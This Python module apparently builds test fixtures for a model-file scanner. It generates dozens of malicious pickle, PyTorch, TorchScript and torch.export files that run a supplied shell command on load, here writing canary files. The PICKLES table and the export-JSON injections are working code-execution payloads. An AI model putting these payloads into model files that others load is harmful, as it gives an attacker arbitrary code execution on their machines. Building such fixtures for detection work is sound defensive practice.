"""Files that run code when their own libraries open them; the code writes a file called like the attack into a folder.

attacks("/tmp/canaries")["reduce.pkl"]  # bytes
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable, Iterator, Mapping

import torch
from hostile.samples import exported, nvlabs, saved, zipped
from torch import nn

Attack = Callable[[str], bytes]
"""From a shell command to a file."""


def text(value: str) -> bytes:
    """The instruction that pushes a string."""
    raw = value.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def _exec(command: str) -> bytes:
    return text(f"import os\nos.system({command!r})")


def _nested(inner: bytes) -> bytes:
    return b"\x80\x04ctorch.storage\n_load_from_bytes\nB" + len(inner).to_bytes(4, "little") + inner + b"\x85R."


def _legacy(pickled: bytes) -> bytes:
    """A file of torch before 1.6 whose objects are ``pickled``."""
    plain = saved({}, _use_new_zipfile_serialization=False)
    return plain.replace(b"\x80\x02}q\x00.", pickled, 1)


def _reduce(c: str) -> bytes:
    return b"\x80\x02cos\nsystem\n" + text(c) + b"\x85R."


_IMPORT = b"cbuiltins\n__import__\n" + text("os") + b"\x85R"
_GETATTR = b"cbuiltins\ngetattr\n"

PICKLES: Mapping[str, Attack] = {
    "reduce": _reduce,
    "protocol0": lambda c: b"cos\nsystem\n(S" + repr(c).encode() + b"\ntR.",
    "stack_global": lambda c: b"\x80\x04\x8c\x02os\x8c\x06system\x93" + text(c) + b"\x85R.",
    "inst": lambda c: b"\x80\x02(" + text(c) + b"ios\nsystem\n.",
    "obj": lambda c: b"\x80\x02(cos\nsystem\n" + text(c) + b"o.",
    "newobj": lambda c: b"\x80\x02csubprocess\nPopen\n(" + text("sh") + text("-c") + text(c) + b"l\x85\x81.",
    "newobj_ex": lambda c: b"\x80\x04csubprocess\nPopen\n" + text(c) + b"\x85}" + text("shell") + b"\x88s\x92.",
    "build_setstate": lambda c: b"\x80\x02cargparse\nNamespace\n)\x81}" + text("__setstate__") + b"cos\nsystem\nsb" + text(c) + b"b.",
    "build_on_ours": lambda c: b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\nN}" + text("__defaults__") + text(c) + b"s\x86b.",
    "build_ordered": lambda c: b"\x80\x02ccollections\nOrderedDict\n)R}" + text("items") + b"cos\nsystem\nsb.",
    "build_tensor": lambda c: b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu")
    + b"K\x04tQK\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRN}" + text("shape") + b"J\xff\xff\xff\xffs\x86b.",
    "ext1": lambda c: b"\x80\x02\x82\x01" + text(c) + b"\x85R.",
    "ext2": lambda c: b"\x80\x02\x83\x01\x00" + text(c) + b"\x85R.",
    "ext4": lambda c: b"\x80\x02\x84\x01\x00\x00\x00" + text(c) + b"\x85R.",
    "persid": lambda c: b"\x80\x02Pos.system\n" + text(c) + b"\x85R.",
    "binpersid": lambda c: b"\x80\x02cos\nsystem\n" + text(c) + b"\x85RQ.",
    "binpersid_int": lambda c: b"\x80\x02K\x00Q" + text(c) + b"\x85R.",
    "getattr_chain": lambda c: b"\x80\x02" + _GETATTR + _IMPORT + text("system") + b"\x86R" + text(c) + b"\x85R.",
    "dotted_name": lambda c: b"\x80\x04\x8c\x08builtins\x8c\x0e__import__.__call__\x93" + text("os") + b"\x85R" + text(c) + b"b.",
    "exec": lambda c: b"\x80\x02cbuiltins\nexec\n" + _exec(c) + b"\x85R.",
    "eval": lambda c: b"\x80\x02cbuiltins\neval\n" + text(f"__import__('os').system({c!r})") + b"\x85R.",
    "codecs": lambda c: b"\x80\x02cbuiltins\nexec\nc_codecs\nencode\n" + _exec(c) + text("latin1") + b"\x86R\x85R.",
    "codecs_rot": lambda c: b"\x80\x02cbuiltins\nexec\nc_codecs\ndecode\n" + _exec(c) + text("unicode_escape") + b"\x86R\x85R.",
    "memo": lambda c: b"\x80\x02cos\nsystem\nq\x050" + text(c) + b"q\x060h\x05h\x06\x85R.",
    "memo_long": lambda c: b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93\x94h\x02" + text(c) + b"\x85R.",
    "in_a_key": lambda c: b"\x80\x02}cos\nsystem\n" + text(c) + b"\x85RK\x01s.",
    "in_a_list": lambda c: b"\x80\x02](K\x01cos\nsystem\n" + text(c) + b"\x85Re.",
    "append_to": lambda c: b"\x80\x02csite\n_Printer\n)\x81cos\nsystem\n" + text(c) + b"\x85Ra.",
    "partial": lambda c: b"\x80\x02cfunctools\npartial\ncos\nsystem\n" + text(c) + b"\x86R)R.",
    "map": lambda c: b"\x80\x02cbuiltins\nlist\ncbuiltins\nmap\ncos\nsystem\n](" + text(c) + b"e\x86R\x85R.",
    "type_call": lambda c: b"\x80\x02cbuiltins\ntype\n" + text("X") + b")}" + text("__del__") + b"cos\nsystem\ns\x87R)R.",
    "runpy": lambda c: b"\x80\x02crunpy\n_run_code\n" + _exec(c) + b"}\x86R.",
    "runstring": lambda c: b"\x80\x02cnumpy.testing._private.utils\nrunstring\n" + _exec(c) + b"}\x86R.",
    "ctypes": lambda c: b"\x80\x02" + _GETATTR + b"cctypes\nCDLL\nN\x85R" + text("system") + b"\x86R" + text(c) + b"\x85R.",
    "pty": lambda c: b"\x80\x02cpty\nspawn\n](" + text("sh") + text("-c") + text(c) + b"e\x85R.",
    "torch_load": lambda c: b"\x80\x02ctorch.serialization\nload\nc_io\nBytesIO\nB\x04\x00\x00\x00abcd\x85R\x85R.",
    "from_type": lambda c: b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\ncbuiltins\nobject\n" + text(c) + b"\x85NtR.",
    "nested": lambda c: _nested(_legacy(_reduce(c))),
    "nested_twice": lambda c: _nested(_legacy(_nested(_legacy(_reduce(c))))),
    "nested_zip": lambda c: _nested(zipped({"a/data.pkl": _reduce(c), "a/version": b"3\n"})),
    "nested_pickle": lambda c: _nested(_reduce(c)),
    "object_array": lambda c: b"\x80\x02cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85c_codecs\nencode\n" + text("b") + text("latin1")
    + b"\x86R\x87R(K\x01K\x01\x85cnumpy\ndtype\n" + text("O8") + b"\x89\x88\x87R\x89](cos\nsystem\n" + text(c) + b"\x85Retb.",
}  # fmt: skip


def pickled_attacks(command: Callable[[str], str]) -> Iterator[tuple[str, bytes]]:
    """Every route by itself, and the first few inside torch's containers."""
    for name, make in PICKLES.items():
        yield f"{name}.pkl", make(command(name))
    for name in ("reduce", "stack_global", "build_setstate", "nested", "getattr_chain"):
        pickled = PICKLES[name](command(f"zip_{name}"))
        yield f"zip_{name}.pt", zipped({"a/data.pkl": pickled, "a/byteorder": b"little", "a/version": b"3\n"})
        yield f"legacy_{name}.pt", _legacy(PICKLES[name](command(f"legacy_{name}")))
    plain = _legacy(b"\x80\x02}q\x00.")
    for position, part in enumerate(_parts(plain)):
        if position in (1, 2, 4):
            attack = _reduce(command(f"legacy_part_{position}"))
            yield f"legacy_part_{position}.pt", plain.replace(part, attack, 1)
    statement = f"import os\nos.system({command('nvlabs')!r})\nclass Bridge:\n    pass\n"
    yield "nvlabs.pkl", nvlabs(statement)
    yield "nvlabs_protocol3.pkl", nvlabs(statement.replace("nvlabs", "nvlabs_protocol3"), 3)
    inside = _reduce(command("tarred_pickle"))
    yield "tarred_pickle.zip", zipped({"G.pkl": inside}, zipfile.ZIP_DEFLATED)


def _parts(raw: bytes) -> Iterator[bytes]:
    """The pickles in a row at the start of ``raw``."""
    stream = io.BytesIO(raw)
    for _ in range(5):
        start = stream.tell()
        pickle.Unpickler(stream).load()
        yield raw[start : stream.tell()]


class _Saves(nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path
        self.fc = nn.Linear(8, 64)

    def forward(self, z: torch.Tensor) -> torch.Tensor:
        torch.save(z, self.path)
        images: torch.Tensor = torch.tanh(self.fc(z.flatten(1))).view(-1, 1, 8, 8)
        return images


class _Maps(_Saves):
    def forward(self, z: torch.Tensor) -> torch.Tensor:
        mapped = torch.from_file(self.path, True, 64)
        images: torch.Tensor = torch.tanh(self.fc(z.flatten(1)) + mapped).view(-1, 1, 8, 8)
        return images


class _Hooks(_Saves):
    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
        return self.fc.weight, self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
        self.path = state[1]
        self.training = state[2]
        torch.save(state[0], state[1])

    def forward(self, z: torch.Tensor) -> torch.Tensor:
        return z


def archived_attacks(folder: str) -> Iterator[tuple[str, bytes]]:
    """TorchScript that writes files when loaded or called, and torch.export archives whose JSON is evaluated."""
    for name, kind in (("script_save", _Saves), ("script_from_file", _Maps), ("script_setstate", _Hooks)):
        buffer = io.BytesIO()
        torch.jit.save(torch.jit.script(kind(f"{folder}/{name}")), buffer)  # type: ignore[no-untyped-call]  # no annotation
        yield f"{name}.pt", buffer.getvalue()
    code = f"__import__('os').system('touch {folder}/NAME')"
    places: dict[str, Callable[[dict[str, object], str], None]] = {
        "export_guard": lambda model, c: model.update(guards_code=[c]),
        "export_range": lambda model, c: model.update(range_constraints={c: {"min_val": 1, "max_val": 2}}),
        "export_size": _sizes,
        "export_target": _targets,
    }
    for name, change in places.items():
        yield f"{name}.pt2", _changed_export(lambda model, n=name, f=change: f(model, code.replace("NAME", n)))  # type: ignore[misc]
    with zipfile.ZipFile(io.BytesIO(exported())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    swapped = {
        name: _reduce(f"touch {folder}/export_inputs") if name.endswith(".pt") else raw for name, raw in members.items()
    }
    yield "export_inputs.pt2", zipped(swapped)


def _changed_export(change: Callable[[dict[str, object]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(exported())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    name = next(name for name in members if name.endswith("models/model.json"))
    model = json.loads(members[name])
    change(model)
    return zipped({**members, name: json.dumps(model).encode()})


def _sizes(node: object, code: str) -> None:
    """Every size a symbolic one that is ``code``."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "sizes" and isinstance(value, list):
                node[key] = [{"as_expr": {"expr_str": code, "hint": {"as_int": 2}}} for _ in value]
            else:
                _sizes(value, code)
    elif isinstance(node, list):
        for value in node:
            _sizes(value, code)


def _targets(model: dict[str, object], code: str) -> None:
    """The first operator one that is looked up by name."""
    graph = model["graph_module"]["graph"]  # type: ignore[index]  # nested JSON
    graph["nodes"][0]["target"] = f"os.system {code}"
